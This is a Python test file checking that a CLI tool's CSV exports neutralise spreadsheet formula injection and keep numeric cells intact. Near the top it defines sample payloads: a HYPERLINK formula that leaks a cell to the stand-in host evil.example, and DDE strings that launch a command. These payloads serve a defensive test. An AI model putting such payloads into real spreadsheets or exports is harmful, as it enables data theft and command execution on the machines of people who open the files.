"""CSV outputs never hand a spreadsheet a formula: every command that writes CSV, on a project whose logs,
git author and examples carry formula payloads, writes those cells with a leading ', and numbers as numbers."""

from __future__ import annotations

import csv
import io
import json
import os
from pathlib import Path

import pytest
import typer
from hypothesis import given
from hypothesis import strategies as st

from remedy.commands.app import app
from remedy.report.tables import FORMULA_STARTS, csv_cell, render_rows
from tests.conftest import git, write_answer

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"refund")'
DDE = "+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
QUERY = f"{HYPERLINK} how do i get a refund for a cancelled flight"

# Every command that writes CSV, with the cell that carries a payload into it (None: no text from the
# project reaches its CSV columns; the test still checks every cell).
COMMANDS: dict[str, tuple[tuple[str, ...], str | None]] = {
    "list": (("list",), "'=HYPERLINK"),  # updated_by, from the git author
    "owners": (("owners",), "'@refunds"),  # an owner handle is an @-cell
    "match": (("match", "refund for my flight"), None),
    # a must_not_match can no longer match (the decision reads it: issue 31), so no failing row carries the
    # payload; every cell is still checked
    "test": (("test",), None),
    "calibrate": (("calibrate",), None),
    "coverage": (("coverage", "--logs", "logs.jsonl"), None),
    # representative_query; --status all: the draft covers the issue
    "issues": (("issues", "--logs", "logs.jsonl", "--top", "0", "--status", "all"), "'=HYPERLINK"),
    "issue": (("issue", "1", "--logs", "logs.jsonl", "--limit", "0", "--status", "all"), "'+cmd"),  # query, response
    "preview": (("preview", "refund-draft", "--logs", "logs.jsonl"), "'=HYPERLINK"),  # query
    "suggest": (("suggest", "--logs", "logs.jsonl", "--served"), "'=HYPERLINK"),  # a log query it serves
}


@pytest.fixture
def hostile(repo: Path) -> Path:
    examples = (f"threshold: 0.3\nalso_matches:\n  - my flight was cancelled, can i get my money back\n"
                f"must_not_match:\n  - {json.dumps(HYPERLINK + ' refund for a cancelled flight')}\n")
    write_answer(repo, "refund", "How do I get a refund for a cancelled flight?",
                 extra=f'owners: ["@refunds"]\n{examples}')
    write_answer(repo, "refund-draft", QUERY, status="draft")
    rows = [{"id": f"{AT}-{i}", "timestamp": f"2026-10-0{1 + i}T10:00:00Z", "query": QUERY, "response": DDE,
             "is_bad": True, "primary_issue": MINUS} for i in range(4)]
    rows.append({"id": "ok", "timestamp": "2026-10-09T10:00:00Z", "query": "what is the baggage allowance",
                 "is_bad": False})
    (repo / "logs.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    git(repo, "add", "remediations")
    git(repo, "commit", "-qm", "answers", env={**os.environ, "GIT_AUTHOR_NAME": HYPERLINK})
    return repo


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("name", sorted(COMMANDS))
def test_every_csv_output_neutralises_formula_cells(hostile: Path, run, name: str) -> None:
    args, payload = COMMANDS[name]
    if name == "issue":  # `issue 1` is rank 1 of the queue `issues` printed last
        assert run("issues", "--logs", "logs.jsonl", "--status", "all").exit_code == 0
    result = run(*args, "--format", "csv")
    assert result.exit_code in (0, 1), result.stderr  # `test` finds the failing example: exit 1
    cells = _cells(result.stdout)
    assert len(cells) > 1
    dangerous = [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not _is_number(cell)]
    assert dangerous == [], f"`remedy {name}` wrote formula cells"
    if payload is not None:
        assert any(cell.startswith(payload) for cell in cells), f"`remedy {name}` lost the payload {payload!r}"


def test_the_list_above_is_every_command_that_writes_csv() -> None:
    """A new command with `--format csv` must join COMMANDS (and so this test)."""
    def walk(command, prefix: str) -> list[str]:  # noqa: ANN001 - typer's (vendored) click Command
        if hasattr(command, "commands"):
            return [name for sub, child in command.commands.items() for name in walk(child, f"{prefix}{sub} ")]
        formats = [p for p in command.params if "--format" in getattr(p, "opts", ())]
        return [prefix.strip()] if formats and "csv" in (formats[0].help or "") else []

    assert sorted(walk(typer.main.get_command(app), "")) == sorted(COMMANDS)


def test_numbers_stay_numbers() -> None:
    text = render_rows([{"n": -3, "x": -0.25, "s": "-0.5", "q": "-1+1", "e": "1e-3", "t": "\tx"}],
                       ("n", "x", "s", "q", "e", "t"), "csv")
    assert text.splitlines()[1] == "-3,-0.250,-0.5,'-1+1,1e-3,'\tx"


@given(st.text())
def test_csv_cell_never_starts_a_formula_and_keeps_the_text(text: str) -> None:
    cell = csv_cell(text)
    assert not cell.startswith(FORMULA_STARTS) or _is_number(cell)
    assert cell == text or cell == "'" + text
